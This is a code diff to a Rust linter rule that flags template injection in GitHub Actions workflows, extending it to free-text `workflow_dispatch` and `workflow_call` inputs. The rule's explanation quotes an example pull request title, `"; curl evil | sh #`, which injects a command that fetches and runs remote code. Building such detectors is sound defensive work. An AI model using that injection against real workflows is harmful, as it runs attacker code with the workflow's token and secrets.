@@ -6,7 +6,7 @@ rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (high confidence when the workflow can be called, since a caller may pass on anything; medium when only people with write access can start it); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -103,7 +103,50 @@ fn env_name(path: &[String]) -> String {
         .replace(|c: char| !c.is_ascii_alphanumeric(), "_")
 }
 
+/// The free-text inputs of a workflow: `workflow_dispatch` and `workflow_call` inputs of type
+/// `string` (or with no type, which `workflow_dispatch` reads as `string`), with whether the
+/// workflow can be called (a caller may pass on anything, pull request titles included).
+/// `boolean`, `number`, `choice` and `environment` inputs can only hold what their type allows.
+fn string_inputs(cx: &Ctx) -> (Vec<String>, bool) {
+    let mut names = Vec::new();
+    let mut callable = false;
+    if !cx.is_workflow() {
+        return (names, false);
+    }
+    for (event, node) in crate::model::triggers(cx.root) {
+        if event != "workflow_dispatch" && event != "workflow_call" {
+            continue;
+        }
+        callable |= event == "workflow_call";
+        for (k, v) in node.get("inputs").map(|i| i.entries()).unwrap_or_default() {
+            let ty = v.get("type").and_then(|t| t.as_str()).unwrap_or("string");
+            if let Some(name) = k.as_str()
+                && ty.eq_ignore_ascii_case("string")
+            {
+                names.push(name.to_ascii_lowercase());
+            }
+        }
+    }
+    (names, callable)
+}
+
+/// How dangerous `inputs.X` / `github.event.inputs.X` is: only string inputs hold free text. Who
+/// sets them has write access (`workflow_dispatch`) or is a calling workflow, which may forward
+/// attacker text; the former is medium confidence.
+fn input_risk(path: &[String], strings: &[String], callable: bool) -> Option<Confidence> {
+    let name = match path {
+        [ctx, name] if ctx.eq_ignore_ascii_case("inputs") => name,
+        [gh, ev, ctx, name] if gh == "github" && ev == "event" && ctx == "inputs" => name,
+        _ => return None,
+    };
+    strings
+        .iter()
+        .any(|s| s.eq_ignore_ascii_case(name))
+        .then_some(if callable { Confidence::High } else { Confidence::Medium })
+}
+
 fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
+    let (strings, callable) = string_inputs(cx);
     for (_, step) in cx.steps() {
         let mut scripts = Vec::new();
         if let Some(run) = step.get("run") {
@@ -122,7 +165,10 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                 // Only what reaches the expanded text: `${{ github.event.label.name == 'x' }}`
                 // expands to `true` or `false`, whatever the label says.
                 for (path, _, _) in e.parsed.expanded_paths() {
-                    let Some(confidence) = injection_risk(path) else { continue };
+                    let input = input_risk(path, &strings, callable);
+                    let Some(confidence) = input.or_else(|| injection_risk(path)) else {
+                        continue;
+                    };
                     let written = e.base.map(|_| e.span.text(cx.src));
                     if !reported.insert(written.map_or_else(|| path.join("."), str::to_owned)) {
                         break;
@@ -134,10 +180,17 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                         Diagnostic::new(
                             meta(),
                             e.span,
-                            format!(
-                                "`{}` can be set by an outsider and is expanded straight into `{what}:`",
-                                path.join(".")
-                            ),
+                            if input.is_some() {
+                                format!(
+                                    "`{}` is free text from whoever runs or calls the workflow and is expanded straight into `{what}:`",
+                                    path.join(".")
+                                )
+                            } else {
+                                format!(
+                                    "`{}` can be set by an outsider and is expanded straight into `{what}:`",
+                                    path.join(".")
+                                )
+                            },
                         )
                         .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
                         .confidence(confidence)
